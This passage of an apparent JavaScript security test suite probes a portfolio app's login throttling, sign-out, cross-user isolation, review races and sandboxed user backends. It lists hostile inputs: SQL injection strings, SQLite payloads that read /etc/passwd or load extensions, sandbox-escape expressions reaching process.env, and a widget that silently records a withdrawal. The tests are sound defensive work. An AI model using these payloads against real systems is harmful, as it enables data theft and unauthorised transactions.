      { Cookie: `atelier_device=${"0".repeat(32)}.${value.split(".")[1]}` },
      { Cookie: "atelier_device=x.y" },
      { Cookie: "atelier_device=" },
    ];
    const looked = await Promise.all(
      Array.from({ length: 60 }, (_, at) => login("investor-a", `guess-${at}`, disguises[at % disguises.length])),
    );
    const tried = looked.filter((answer) => answer.status === 401).length;
    expect(tried, "guesses that were looked at, of 60").toBeLessThanOrEqual(12);
    for (const headers of disguises)
      expect((await login("investor-a", "guess", headers)).status, JSON.stringify(headers)).toBe(429);
    const honest = await login("investor-b", other.password("investor-b"), { Cookie: device });
    expect(honest.status, "somebody else on a known device").toBe(200);
  });

  test("16 spraying one password over many names does not keep a known device out", async () => {
    const known = await login("reviewer", other.password("reviewer"), {});
    const cookie =
      known.status === 200
        ? known.headers["set-cookie"].find((row) => row.startsWith("atelier_device=")).split(";")[0]
        : null;
    expect(known.status, "before the spray").toBe(200);
    await Promise.all(Array.from({ length: 150 }, (_, at) => login(`name-${at}`, "Winter2026")));
    const start = performance.now();
    expect((await login("reviewer", other.password("reviewer"), { Cookie: cookie })).status).toBe(200);
    expect(performance.now() - start).toBeLessThan(5000);
  });

  test("17 sign-out ends the socket, the events, the preview's token and the cookie", async () => {
    const me = await signedIn(stack, "investor-a");
    const view = await build(me, model, READER);
    const frame = new URL(view.preview.url);
    const look = () =>
      send({
        port: stack.port + 1,
        method: "POST",
        path: "/tools/list_positions",
        body: '{"arguments":{}}',
        headers: { Host: frame.host, Origin: "null", ...JSON_TYPE, Authorization: `Bearer ${frame.hash.slice(7)}` },
      });
    expect((await look()).status).toBe(200);
    const ended = { socket: false, events: false };
    const key = randomBytes(16).toString("base64");
    const socket = connect(stack.port, "127.0.0.1");
    let heard = "";
    socket.on("data", (part) => (heard += part.toString("latin1")));
    socket.on("close", () => (ended.socket = true));
    socket.on("end", () => (ended.socket = true));
    socket.on("error", () => (ended.socket = true));
    socket.write(
      `GET /api/v1/sessions/${view.id}/socket HTTP/1.1\r\nHost: localhost:${stack.port}\r\nAuthorization: Bearer ${me.token}\r\n` +
        `Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${key}\r\n\r\n`,
    );
    const events = await fetch(`${stack.url}/api/v1/sessions/${view.id}/events`, {
      headers: { Authorization: `Bearer ${me.token}` },
    });
    expect(events.status).toBe(200);
    void (async () => {
      for await (const part of events.body) void part;
    })()
      .catch(() => null)
      .finally(() => (ended.events = true));
    await until("the socket", () => heard.includes(" 101 "));
    await sleep(300);
    expect(ended).toEqual({ socket: false, events: false });
    expect((await me.post("/logout", {})).status).toBeLessThan(300);
    await until("the end of both", () => (ended.socket || heard.includes("\x88")) && ended.events, 5000).catch(
      () => null,
    );
    const told = heard.length;
    const mask = (text) => Buffer.concat([Buffer.from([0x81, 0x80 | text.length, 0, 0, 0, 0]), Buffer.from(text)]);
    if (!socket.destroyed) socket.write(mask('{"type":"message","text":"after sign-out"}'));
    await a.post(`/sessions/${view.id}/messages`, { text: "a table of positions" });
    await settle(a, view.id);
    socket.destroy();
    expect(ended.events, "events by SSE").toBe(true);
    expect(heard.slice(told).replace(/\x88[^]*/, ""), "events by the socket after the sign-out").toBe("");
    expect(JSON.stringify((await a.get(`/sessions/${view.id}`)).body)).not.toContain("after sign-out");
    expect((await me.get("/me")).status).toBe(401);
    expect((await look()).status, "the preview's token").toBeGreaterThanOrEqual(400);
  });

  test("18 somebody else's preview: without, with another frame's and with an own token", async () => {
    const [mine, theirs] = [await build(b, model, READER), await build(a, model, READER)];
    const [own, target] = [new URL(mine.preview.url), new URL(theirs.preview.url)];
    const look = (host, token, more = {}) =>
      send({
        port: stack.port + 1,
        method: "POST",
        path: "/tools/list_positions",
        body: '{"arguments":{}}',
        headers: {
          Host: host,
          Origin: "null",
          ...JSON_TYPE,
          ...(token ? { Authorization: `Bearer ${token}` } : {}),
          ...more,
        },
      });
    const key = (url) => url.hash.slice(7);
    expect((await look(target.host, key(target))).status).toBe(200);
    for (const token of [null, key(own), b.token, "", key(target).slice(1), "undefined"]) {
      expect((await look(target.host, token)).status, String(token)).toBeGreaterThanOrEqual(400);
    }
    expect((await look(own.host, key(target))).status).toBeGreaterThanOrEqual(400);
    const crossed = await look(own.host, key(own), {
      "X-Forwarded-Host": target.host,
      Forwarded: `host=${target.host}`,
    });
    const honest = await look(own.host, key(own));
    expect(crossed.body.total_value).toBe(honest.body.total_value);
    for (const tool of [
      "record_transaction",
      "delete_transaction",
      "list_portfolios",
      "../backend/list",
      "list_positions%00",
    ]) {
      const answer = await send({
        port: stack.port + 1,
        method: "POST",
        path: `/tools/${tool}`,
        body: '{"arguments":{}}',
        headers: { Host: own.host, Origin: "null", ...JSON_TYPE, Authorization: `Bearer ${key(own)}` },
      });
      expect(answer.status, `${tool} is not in the manifest`).toBeGreaterThanOrEqual(400);
    }
    for (const origin of ["http://evil.example", stack.url]) {
      const page = await exchange(stack.port + 1, "GET", "/", { Host: target.host, Origin: origin });
      expect(page.headers["access-control-allow-origin"], origin).not.toBe(origin);
    }
  });

  test("19 many dialogues, forks and previews at once start few processes", async () => {
    const children = () =>
      Number(execFileSync("sh", ["-c", `ps -e -o ppid= | grep -cw ${stack.process.pid} || true`]).toString());
    const view = await build(a, model, READER);
    const honest = children();
    expect(honest).toBeGreaterThan(0);
    const made = await Promise.all(Array.from({ length: 60 }, () => a.post("/sessions", { mode: "build" })));
    const forks = await Promise.all(Array.from({ length: 30 }, () => a.post(`/sessions/${view.id}/fork`, {})));
    const ids = [...made, ...forks]
      .filter((answer) => answer.status < 300)
      .map((answer) => answer.body.id ?? answer.body.session_id);
    const previews = await Promise.all(ids.slice(-25).map((id) => a.post(`/sessions/${id}/preview`, {})));
    expect(previews.every((answer) => answer.status < 500 || answer.status === 503)).toBe(true);
    await sleep(1500);
    expect(children() - honest, "processes more than before").toBeLessThanOrEqual(8);
    await Promise.all(ids.map((id) => a.delete(`/sessions/${id}`)));
    expect((await exchange(stack.port, "GET", "/healthz")).status).toBe(200);
  });
});

describe("H7, H8: decisions", () => {
  const liveOf = async (feature) =>
    (await a.get("/app/customizations")).body.customizations.find((row) => row.feature === feature);

  test("20 every role at every decision", async () => {
    const change = await publish(a, await build(a, model, simple("Roles")));
    const body = {
      approve: { content_sha256: change.content_sha256 },
      return: { comment: "x" },
      reject: { comment: "x" },
      merge: {},
    };
    for (const [name, who] of [
      ["author", a],
      ["other user", b],
      ["admin", admin],
    ]) {
      for (const [verb, data] of Object.entries(body)) {
        expect([403, 404], `${name} ${verb}`).toContain((await who.post(`/changes/${change.id}/${verb}`, data)).status);
      }
    }
    expect((await a.get(`/changes/${change.id}`)).body.state).toBe("open");
    const own = await publish(reviewer, await build(reviewer, model, simple("Own")));
    for (const [verb, data] of Object.entries({ ...body, approve: { content_sha256: own.content_sha256 } })) {
      expect(
        (await reviewer.post(`/changes/${own.id}/${verb}`, data)).status,
        `the reviewer's own: ${verb}`,
      ).toBeGreaterThanOrEqual(400);
    }
    const done = await reviewer.post(`/changes/${change.id}/approve`, body.approve);
    expect(done.status).toBe(200);
    for (const verb of ["rollback", "activate"])
      expect((await b.post(`/releases/${done.body.release_id}/${verb}`, {})).status, verb).toBe(404);
    expect((await liveOf(done.body.feature)).release_id).toBe(done.body.release_id);
  });

  test("21 approve, return, reject, merge and publish at once: one wins", async () => {
    for (let round = 0; round < 4; round++) {
      const view = await build(a, model, simple(`Race ${round}`));
      const change = await publish(a, view);
      const decide = (verb, data) => reviewer.post(`/changes/${change.id}/${verb}`, data);
      const calls = [
        () => decide("approve", { content_sha256: change.content_sha256 }),
        () => decide("reject", { comment: "no" }),
        () => decide("return", { comment: "again" }),
        () => decide("approve", { content_sha256: change.content_sha256 }),
        () => decide("merge", {}),
        () => a.post(`/sessions/${view.id}/publish`, {}),
        () => decide("reject", { comment: "no", content_sha256: change.content_sha256 }),
      ];
      const order = calls.map((_, at) => (at + round * 3) % calls.length);
      const results = await Promise.all(order.map((at) => calls[at]()));
      const verdicts = results
        .filter((_, at) => order[at] !== 5 && order[at] !== 4)
        .map((answer) => answer.body?.state)
        .filter(Boolean);
      const kinds = new Set(verdicts.map((state) => (state === "approved" ? "merged" : state)));
      const end = (await a.get(`/changes/${change.id}`)).body;
      expect(
        results.every((answer) => answer.status < 500),
        results.map((answer) => answer.status).join(),
      ).toBe(true);
      expect(kinds.size, `told: ${[...kinds]}`).toBe(1);
      expect(Boolean(await liveOf(end.feature)), end.state).toBe(end.state === "merged");
    }
  });

  test("22 decisions in a wrong order, with wrong digests, and repeated", async () => {
    const one = await publish(a, await build(a, model, simple("Order")));
    const decide = (verb, data, id = one.id) => reviewer.post(`/changes/${id}/${verb}`, data);
    for (const sha of [
      "",
      "x",
      "0".repeat(64),
      one.content_sha256.toUpperCase(),
      ` ${one.content_sha256}`,
      one.content_sha256.slice(0, 10),
    ]) {
      expect((await decide("approve", { content_sha256: sha })).status, sha).toBeGreaterThanOrEqual(400);
    }
    expect((await decide("merge", {})).status, "merge before approval").toBeGreaterThanOrEqual(400);
    expect((await decide("reject", { comment: "  \n " })).status, "a comment of blanks").toBeGreaterThanOrEqual(400);
    expect((await decide("reject", { comment: "no" })).status).toBe(200);
    for (const [verb, data] of [
      ["approve", { content_sha256: one.content_sha256 }],
      ["return", { comment: "x" }],
      ["merge", {}],
      ["reject", { comment: "x" }],
    ]) {
      expect((await decide(verb, data)).status, `${verb} after reject`).toBeGreaterThanOrEqual(400);
    }
    const two = await publish(a, await build(a, model, simple("Order two")));
    const merged = (await decide("approve", { content_sha256: two.content_sha256 }, two.id)).body;
    expect(merged.state).toBe("merged");
    for (const [verb, data] of [
      ["return", { comment: "x" }],
      ["reject", { comment: "x" }],
    ]) {
      expect((await decide(verb, data, two.id)).status, `${verb} after merge`).toBeGreaterThanOrEqual(400);
    }
    expect(await liveOf(merged.feature)).toBeTruthy();
    expect((await a.post(`/releases/${merged.release_id}/rollback`, {})).status).toBe(200);
    expect(
      (await a.post(`/releases/${merged.release_id}/rollback`, {})).status,
      "rolled back twice",
    ).toBeGreaterThanOrEqual(400);
    expect(await liveOf(merged.feature)).toBeFalsy();
  });

  test("23 what a reviewer withdrew stays away: activation in a race, by another version, by the same text again", async () => {
    const view = await build(a, model, simple("First"));
    const first = await release(a, reviewer, view);
    expect((await liveOf(first.feature)).release_id).toBe(first.release_id);
    const race = await Promise.all([
      ...Array.from({ length: 6 }, () => a.post(`/releases/${first.release_id}/activate`, {})),
      reviewer.post(`/releases/${first.release_id}/rollback`, { comment: "harmful" }),
      ...Array.from({ length: 6 }, () => a.post(`/releases/${first.release_id}/activate`, {})),
    ]);
    expect(race[6].status).toBe(200);
    expect(await liveOf(first.feature), "after the race").toBeFalsy();
    for (const path of [`/releases/${first.release_id}/activate`, `/releases/${first.release_id}/rollback`]) {
      expect((await a.post(path, {})).status, path).toBeGreaterThanOrEqual(400);
    }
    await a.post(`/app/customizations/${first.feature}/hide`, { hidden: true });
    await a.post(`/app/customizations/${first.feature}/hide`, { hidden: false });
    await a.post(`/sessions/${view.id}/undo`, {});
    await a.post(`/sessions/${view.id}/redo`, {});
    const again = await a.post(`/sessions/${view.id}/publish`, {});
    expect(await liveOf(first.feature), "after publishing the same text again").toBeFalsy();
    expect((await a.get(`/changes/${again.body.id ?? first.id}`)).body.state).not.toBe("approved");
    expect((await admin.post(`/releases/${first.release_id}/activate`, {})).status).toBe(200);
    expect((await liveOf(first.feature)).release_id).toBe(first.release_id);
  });
});

describe("the Core Backend by /api/v1/app/tools", () => {
  const READS = [
    ["list_positions", {}],
    ["list_transactions", {}],
    ["list_dividends", {}],
    ["get_allocation", { group_by: "sector" }],
    ["get_metrics", {}],
    ["get_performance", {}],
    ["get_value_history", {}],
    ["list_transaction_changes", {}],
  ];

  test("24 other users' portfolios in every tool", async () => {
    const other = (await tool(b, "list_portfolios", {})).body.portfolios[0].id;
    const own = (await tool(a, "list_portfolios", {})).body.portfolios[0].id;
    const before = JSON.stringify((await tool(b, "list_transactions", {})).body);
    for (const [name, args] of READS) {
      expect((await tool(a, name, { ...args, portfolio_id: own })).status, `${name} own`).toBe(200);
      const never = await tool(a, name, { ...args, portfolio_id: "pf-never" });
      const theirs = await tool(a, name, { ...args, portfolio_id: other });
      expect([theirs.status, theirs.body.message.replace(other, "X")], name).toEqual([
        never.status,
        never.body.message.replace("pf-never", "X"),
      ]);
      expect(
        (await tool(a, name, args, { portfolio_id: other })).status,
        `${name} beside the arguments`,
      ).toBeGreaterThanOrEqual(400);
      const mixed = await tool(a, name, { ...args, portfolio_id: own }, { portfolio_id: other });
      if (mixed.status === 200)
        expect(mixed.body, name).toEqual((await tool(a, name, { ...args, portfolio_id: own })).body);
    }
    const spoil = { kind: "withdrawal", amount: "5", portfolio_id: other };
    for (const who of [a, admin, reviewer])
      expect((await record(who, `foreign-${who.token.slice(0, 8)}`, spoil)).status).toBeGreaterThanOrEqual(400);
    const weights = {
      idempotency_key: "foreign-weights",
      weights: [{ ticker: "TSLA", weight: "0.5" }],
      portfolio_id: other,
    };
    expect((await tool(a, "set_target_weights", weights)).status).toBeGreaterThanOrEqual(400);
    for (const id of [`${other}\u0000`, `${other} `, other.toUpperCase(), `${own}' OR '1'='1`, "%", "", "*"]) {
      const answer = await tool(a, "list_transactions", { portfolio_id: id });
      if (answer.status === 200) expect(JSON.stringify(answer.body), id).not.toBe(before);
      else expect(answer.status, id).toBeLessThan(500);
    }
    expect(JSON.stringify((await tool(b, "list_transactions", {})).body)).toBe(before);
  });

  test("25 huge and odd amounts are refused or harm no later reading", async () => {
    expect((await record(a, "honest-amount", { kind: "deposit", amount: "1.5", note: "odd" })).status).toBe(200);
    const odd = [
      "1e5",
      "NaN",
      "Infinity",
      "-Infinity",
      "0x10",
      "１２",
      "+5",
      "-5",
      "-0",
      "0",
      ".5",
      "5.",
      "1,5",
      " 5",
      "5\n",
      "0".repeat(5000),
      "9".repeat(40),
      "99999999999999",
      "10000000000000.0000000001",
      `0.${"0".repeat(300)}1`,
      "1".repeat(100_000),
      "--5",
      "5-",
      "\u0665",
    ];
    const shapes = [
      (x) => ({ kind: "deposit", amount: x, note: "odd" }),
      (x) => ({ kind: "withdrawal", amount: x, note: "odd" }),
      (x) => ({ kind: "buy", ticker: "TSLA", quantity: x, price: "1", note: "odd" }),
      (x) => ({ kind: "buy", ticker: "TSLA", quantity: "1", price: x, note: "odd" }),
      (x) => ({ kind: "buy", ticker: "TSLA", quantity: "1", price: "1", fee: x, note: "odd" }),
      (x) => ({ kind: "split", ticker: "TSLA", quantity: x, note: "odd" }),
      (x) => ({ kind: "sell", ticker: "TSLA", quantity: x, price: "1", note: "odd" }),
    ];
    const accepted = [];
    for (const [at, value] of odd.entries()) {
      for (const [shape, make] of shapes.entries()) {
        const answer = await record(a, `odd-key-${at}-${shape}`, make(value));
        expect(answer.status, `${value.slice(0, 20)} ${shape}`).toBeLessThan(500);
        if (answer.status === 200) accepted.push(`${make(value).kind} ${shape} ${JSON.stringify(value.slice(0, 20))}`);
      }
    }
    for (const date of ["0000-00-00", "2022-02-30", "9999-12-31", "0001-01-01", "2022-13-01", "2500-01-01"]) {
      const answer = await tool(a, "record_transaction", {
        idempotency_key: `odd-date-${date}`,
        date,
        kind: "deposit",
        amount: "1",
        note: "odd",
      });
      expect(answer.status, date).toBeLessThan(500);
      if (answer.status === 200) accepted.push(`date ${date}`);
    }
    for (const [name, args] of READS)
      expect((await tool(a, name, args)).status, `${name} after ${accepted.join("; ")}`).toBe(200);
    for (const row of await operations(a, "odd"))
      await tool(a, "delete_transaction", { idempotency_key: `clean-${row.id}`.slice(0, 90), transaction_id: row.id });
    const wrong = accepted.filter((text) =>
      /"(-5|NaN|0x10|1e5|１２|\u0665|\+5|5\\n)"|date (2022-02-30|2022-13|0000|0001|9999|2500)/.test(text),
    );
    expect(wrong, "accepted, though no such amount or day can be").toEqual([]);
  });

  test("26 idempotency keys: others', with other contents, at once", async () => {
    const fields = { kind: "deposit", amount: "11", note: "key" };
    const first = await record(a, "shared-key-0001", fields);
    expect(first.status).toBe(200);
    const repeat = await record(a, "shared-key-0001", fields);
    expect(repeat.body.transaction).toEqual(first.body.transaction);
    const other = await record(b, "shared-key-0001", { ...fields, amount: "12", note: "key of b" });
    expect(other.status).toBe(200);
    expect(JSON.stringify(other.body)).not.toContain(
      JSON.stringify(first.body.transaction?.id ?? first.body.id ?? "never"),
    );
    expect((await operations(b, "key of b")).map((row) => row.amount)).toEqual(["12"]);
    expect(
      (await record(a, "shared-key-0001", { ...fields, amount: "13" })).status,
      "the same key, another amount",
    ).toBeGreaterThanOrEqual(400);
    const third = await tool(a, "set_target_weights", {
      idempotency_key: "shared-key-0001",
      weights: [{ ticker: "TSLA", weight: "0.1" }],
    });
    expect(third.status, "the same key, another tool").toBeGreaterThanOrEqual(400);
    await Promise.all(Array.from({ length: 16 }, () => record(a, "racing-key-0001", { ...fields, note: "raced" })));
    expect((await operations(a, "raced")).length).toBe(1);
    expect((await operations(a, "key")).length).toBe(1);
    const admins = await record(admin, "shared-key-0001", fields);
    expect(JSON.stringify(admins.body)).not.toContain(first.body.transaction?.id ?? "never");
  });

  test("27 correction and deletion of others' operations, and twice at once", async () => {
    const made = async (who, note) => {
      expect(
        (await record(who, `made-${note}-${who.token.slice(0, 6)}`, { kind: "deposit", amount: "21", note })).status,
      ).toBe(200);
      return (await operations(who, note))[0];
    };
    const target = await made(b, "target");
    const own = await made(a, "own");
    const pf = (await tool(b, "list_portfolios", {})).body.portfolios[0].id;
    const correct = (who, key, id, more = {}) =>
      tool(who, "correct_transaction", {
        idempotency_key: key,
        transaction_id: id,
        date: TODAY,
        kind: "deposit",
        amount: "99",
        note: "corrected",
        ...more,
      });
    for (const [at, who] of [a, admin, reviewer].entries()) {
      for (const more of [{}, { portfolio_id: pf }]) {
        expect(
          (await correct(who, `steal-${at}-${Object.keys(more)}1`, target.id, more)).status,
        ).toBeGreaterThanOrEqual(400);
        expect(
          (
            await tool(who, "delete_transaction", {
              idempotency_key: `kill-${at}-${Object.keys(more)}1`,
              transaction_id: target.id,
              ...more,
            })
          ).status,
        ).toBeGreaterThanOrEqual(400);
        const seen = await tool(who, "list_transaction_changes", { transaction_id: target.id, ...more });
        expect(JSON.stringify(seen.body)).not.toContain('"21"');
      }
    }
    expect((await operations(b, "target")).map((row) => row.amount)).toEqual(["21"]);
    const race = await Promise.all(
      Array.from({ length: 8 }, (_, at) =>
        at % 2
          ? correct(a, `race-corr-${at}`, own.id)
          : tool(a, "delete_transaction", { idempotency_key: `race-kill-${at}`, transaction_id: own.id }),
      ),
    );
    expect(race.every((answer) => answer.status < 500)).toBe(true);
    expect(await operations(a, "own"), "deleted once for good").toEqual([]);
    expect((await correct(a, "ghost-key-0001", own.id)).status, "of one that is gone").toBeGreaterThanOrEqual(400);
    for (const [name, args] of READS) expect((await tool(a, name, args)).status, name).toBe(200);
  });
});

describe("H5, H6: user backends", () => {
  const preview = (view) => {
    const frame = new URL(view.preview.url);
    return (route, input) =>
      send({
        port: stack.port + 1,
        method: "POST",
        path: `/backend/${route}`,
        body: JSON.stringify({ input }),
        headers: { Host: frame.host, Origin: "null", ...JSON_TYPE, Authorization: `Bearer ${frame.hash.slice(7)}` },
      });
  };

  test("28 hostile SQL in a running backend", async () => {
    const run = preview(await build(a, model, BACKEND()));
    expect((await run("write", { sql: "INSERT INTO notes VALUES (1)" })).status).toBe(200);
    expect((await run("list", { sql: "SELECT n FROM notes" })).body).toEqual([{ n: 1 }]);
    const forbidden = [
      "PRAGMA user_version",
      "SELECT * FROM pragma_database_list",
      "ATTACH 'x' AS y",
      "VACUUM INTO 'x'",
      "VACUUM",
      "BEGIN",
      "COMMIT",
      "SAVEPOINT x",
      "SELECT load_extension('x')",
      "SELECT readfile('/etc/passwd')",
      "SELECT writefile('x', 'y')",
      "SELECT fts5(1)",
      "SELECT edit('x')",
      "CREATE VIRTUAL TABLE f USING fts5(x)",
      "CREATE TABLE IF NOT EXISTS t AS SELECT sqlite_version()",
      "CREATE TRIGGER t AFTER INSERT ON notes BEGIN SELECT 1; END",
      "CREATE TEMP TABLE x(y)",
      "CREATE TABLE temp.x(y)",
      "CREATE VIEW v AS SELECT * FROM sqlite_dbpage",
      "SELECT * FROM dbstat",
      "SELECT * FROM sqlite_dbpage",
      "UPDATE sqlite_master SET sql = 'x'",
      "DELETE FROM _atelier_migrations",
      "SELECT * FROM _atelier_migrations",
      "DROP TABLE _atelier_migrations",
      "ALTER TABLE notes RENAME TO _atelier_x",
      "SELECT 1; DELETE FROM notes",
      "SELECT $a('); DELETE FROM notes; SELECT $b(')",
      "SELECT 1 /* ; */; DELETE FROM notes",
      "WITH x AS (SELECT 1) DELETE FROM notes RETURNING load_extension('x')",
      "ANALYZE",
      "REINDEX",
      "DETACH main",
      "CREATE TABLE x(y DEFAULT (load_extension('z')))",
      "CREATE INDEX i ON notes(load_extension(n))",
      "CREATE TABLE g(a, b AS (load_extension(a)))",
      "SELECT sqlite_compileoption_get(1)",
      "EXPLAIN SELECT 1",
      "SELECT randomblob(2000000000)",
      "SELECT zeroblob(2000000000)",
      "SELECT hex(zeroblob(900000000))",
      "SELECT printf('%.*c', 900000000, 'x')",
      "SELECT replace(hex(zeroblob(500000)), '0', hex(zeroblob(500000)))",
    ];
    const passed = [];
    for (const sql of forbidden) {
      for (const route of ["list", "write"]) {
        const answer = await run(route, { sql });
        if (answer.status < 400 && !(/^SELECT/.test(sql) && JSON.stringify(answer.body).length < 100))
          passed.push(`${route}: ${sql}`);
        expect(answer.status, sql).not.toBe(500);
      }
    }
    expect((await run("list", { sql: "SELECT n FROM notes" })).body, "the honest row").toEqual([{ n: 1 }]);
    expect(passed.filter((text) => !/: REINDEX$/.test(text))).toEqual([]);
    const start = Date.now();
    const endless = await run("list", {
      sql: "WITH RECURSIVE x(n) AS (SELECT 1 UNION ALL SELECT n FROM x) SELECT count(*) AS n FROM x",
    });
    expect([endless.status < 400, Date.now() - start < 9000]).toEqual([false, true]);
  });

  test("29 endless code and memory in a released backend: others go on, a rollback ends all", async () => {
    const routes = `    spin: route({}, () => {
      let n = 0;
      while (n >= 0) n = (n + 1) % 7;
      return n;
    }),
    grow: route({}, () => {
      const all: string[] = [];
      while (all.length >= 0) all.push("x".repeat(9000) + String(all.length));
      return all.length;
    }),
`;
    const change = await release(a, reviewer, await build(a, model, BACKEND(routes)));
    const run = (route, input = {}) => a.post(`/app/backend/${route}`, { release_id: change.release_id, input });
    expect((await run("list", { sql: "SELECT 1 AS n" })).body).toEqual([{ n: 1 }]);
    for (const name of ["constructor", "toString", "hasOwnProperty", "valueOf", "then", "prototype"]) {
      expect((await run(name)).status, name).toBe(404);
    }
    const load = Promise.all(["grow", "spin", "spin"].map((route) => run(route)));
    const start = Date.now();
    expect((await tool(b, "list_positions", {})).status).toBe(200);
    expect(Date.now() - start).toBeLessThan(2500);
    const ends = await load;
    expect(
      ends.every((answer) => answer.status >= 400),
      ends.map((answer) => answer.status).join(),
    ).toBe(true);
    await until("the backend again", async () => (await run("list", { sql: "SELECT 1 AS n" })).status === 200, 20_000);
    const spinning = run("spin");
    await sleep(300);
    expect((await a.post(`/releases/${change.release_id}/rollback`, {})).status).toBe(200);
    expect((await spinning).status).toBeGreaterThanOrEqual(400);
    expect((await run("list", { sql: "SELECT 1 AS n" })).status).toBeGreaterThanOrEqual(400);
    await sleep(500);
    const busy = execFileSync("ps", ["-e", "-o", "pcpu=,args="])
      .toString()
      .split("\n")
      .filter((row) => row.includes(change.feature));
    expect(busy).toEqual([]);
  });

  test("30 another user calls a released backend, and a release that is not live", async () => {
    const change = await release(a, reviewer, await build(a, model, BACKEND()));
    const body = { release_id: change.release_id, input: { sql: "SELECT 1 AS n" } };
    expect((await a.post("/app/backend/list", body)).status).toBe(200);
    for (const who of [b, admin, reviewer])
      expect((await who.post("/app/backend/list", body)).status).toBeGreaterThanOrEqual(400);
    const odd = [
      { sql: 5 },
      { sql: null },
      {},
      { sql: "SELECT 1", more: 1 },
      { __proto__x: 1 },
      { sql: ["SELECT 1"] },
      { sql: "x".repeat(300_000) },
    ];
    for (const input of odd) {
      const { status } = await a.post("/app/backend/list", { ...body, input });
      expect(status >= 400 && status < 500, JSON.stringify(input).slice(0, 40)).toBe(true);
    }
    const polluted = await a.post(
      "/app/backend/list",
      `{"release_id":"${change.release_id}","input":{"__proto__":{"sql":"SELECT 7 AS n"}}}`,
    );
    expect(polluted.status).toBeGreaterThanOrEqual(400);
    await a.post(`/releases/${change.release_id}/rollback`, {});
    expect((await a.post("/app/backend/list", body)).status).toBeGreaterThanOrEqual(400);
  });

  test("31 backend code that reaches for the process, other routes' data and the reader's checks", async () => {
    const wrap = (expression) => BACKEND(`    evil: route({}, (ctx) => ${expression}),\n`);
    const honest = await build(a, model, wrap('ctx.db.all<{ n: number }>("SELECT 2 AS n")'));
    expect((await preview(honest)("evil", {})).body).toEqual([{ n: 2 }]);
    const evil = [
      '[].constructor.constructor("return process.env.PATH")()',
      'Reflect.get(Object, "constructor")("return 1")()',
      "String(globalThis.process.pid)",
      '(async () => String(Object.keys(await import("node:fs"))))()',
      'Object.getPrototypeOf(async () => 1).constructor("return 1")()',
      'String(Object.keys(Reflect.get(ctx, "host") ?? {}))',
      '(() => { throw Object.assign(new Error("x"), { status: 200, code: "ok" }); })()',
    ];
    for (const expression of evil) {
      const view = await build(a, model, wrap(expression));
      if (!view.gate?.ok) continue;
      const answer = await preview(view)("evil", {});
      expect(JSON.stringify(answer.body), expression).not.toMatch(/\/bin|^"\d+"$|readFile|^1$/);
    }
  });

  test("32 opening a page lets a widget's backend write to the portfolio without a question", async () => {
    browser ??= await launchBrowser();
    const routes = `    take: route({}, async (ctx) => {
      try {
        await ctx.core.record_transaction({
          idempotency_key: "backend-takes-0001",
          date: "${TODAY}",
          kind: "withdrawal",
          amount: "4321",
          note: "silent",
        });
      } catch {
        return 0;
      }
      return 1;
    }),
`;
    const widget = `import { Card, useBackendAction } from "@atelier/sdk";
import { useEffect, useRef } from "react";

export default function Toy() {
  const take = useBackendAction("take");
  const done = useRef(false);
  useEffect(() => {
    if (!done.current) {
      done.current = true;
      take.run();
    }
  }, [take]);
  return <Card title="Backend">quiet</Card>;
}
`;
    const change = await release(a, reviewer, await build(a, model, BACKEND(routes, widget)));
    const { customizations } = (await a.get("/app/customizations")).body;
    expect(customizations.find((row) => row.release_id === change.release_id).writes).toContain("record_transaction");
    const page = await opened("investor-a");
    await sleep(2500);
    const silent = await operations(a, "silent");
    await page.context().close();
    await a.post(`/releases/${change.release_id}/rollback`, {});
    expect(
      silent.map((row) => `${row.kind} ${row.amount}`),
      "recorded, though nobody was asked",
    ).toEqual([]);
  });
});

/** A page of the application, signed in by cookie. */
async function opened(name, path = "/app/", at = stack) {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
  const login = await context.request.post(`${at.url}/api/v1/login`, { data: { name, password: at.password(name) } });
  expect(login.status()).toBe(200);
  const page = await context.newPage();
  await page.goto(`${at.url}${path}`);
  return page;
}

describe("H2: hostile widgets in the released frame", () => {
  let target;
  beforeAll(async () => {
    browser ??= await launchBrowser();
    for (const row of (await a.get("/app/customizations")).body.customizations)
      await a.post(`/releases/${row.release_id}/rollback`, {});
    target = await release(a, reviewer, await build(a, model, READER));
  });
  const frameOf = (page, sha) =>
    page.frames().find((frame) => frame.url().includes("widgets.") && (!sha || frame.url().includes(sha)));
  const dump = async (page, ready, limit = 12_000) => {
    let last = null;
    await until(
      "the widget's report",
      async () => {
        for (const frame of page.frames()) {
          const text = await frame
            .locator("#dump")
            .first()
            .textContent({ timeout: 200 })
            .catch(() => null);
          if (text) last = JSON.parse(text);
        }
        return last && ready(last);
      },
      limit,
    );
    return last;
  };
  const scroll = (page) => page.locator("iframe").first().scrollIntoViewIfNeeded({ timeout: 10_000 });

  test("33 calls by the port: a tool outside the manifest, other releases, other portfolios, forged methods", async () => {
    const pf = (await tool(b, "list_portfolios", {})).body.portfolios[0].id;
    const code = hostile(`
      call(9000, "list_positions", {}); call(9001, "list_portfolios", {}); call(9002, "record_transaction", ${withdrawal("port-key-1", "5", "port")});
      call(9003, "list_positions", { portfolio_id: "${pf}" }); call(9004, "__proto__", {}); call(9005, "list_positions", {}, "tools/list");
      call(9006, "../backend/list", {}); call(9007, "list", { sql: "SELECT 1" }, "atelier/route"); call(9008, "list_positions/../list_portfolios", {});
      call(9009, "list_positions?x", {}); call(9010, { toString: 1 }, {}); call(9011, ["list_portfolios"], {});
      own.call(port, { jsonrpc: "2.0", id: 9012, method: "tools/call", params: { name: "list_positions", arguments: {}, release_id: "x", portfolio_id: "${pf}" } });
      own.call(port, { jsonrpc: "2.0", id: 9013, result: { protocolVersion: "1" } }); own.call(port, "x"); own.call(port, null); own.call(port, [[[]]]);`);
    plant(stack, target.release_id, code, "list_positions");
    const page = await opened("investor-a");
    await scroll(page);
    const seen = await dump(page, (text) => new Set(text.got.map((row) => row.id)).size >= 12);
    const by = Object.fromEntries(seen.got.map((row) => [row.id, row]));
    expect(by[9000].result, "the honest call").toBeTruthy();
    for (const id of [9001, 9002, 9003, 9004, 9005, 9006, 9007, 9008, 9009, 9010, 9011])
      expect(by[id]?.result, String(id)).toBeUndefined();
    if (by[9012]?.result) expect(JSON.stringify(by[9012].result)).toBe(JSON.stringify(by[9000].result));
    expect(await operations(a, "port")).toEqual([]);
    await page.context().close();
  });

  test("34 the question about a write: many at once, changed afterwards, asked again and again", async () => {
    const code = hostile(`
      const args = ${withdrawal("asked-key-1", "1", "asked")}; call(9000, "record_transaction", args); args.amount = "900"; args.note = "changed";
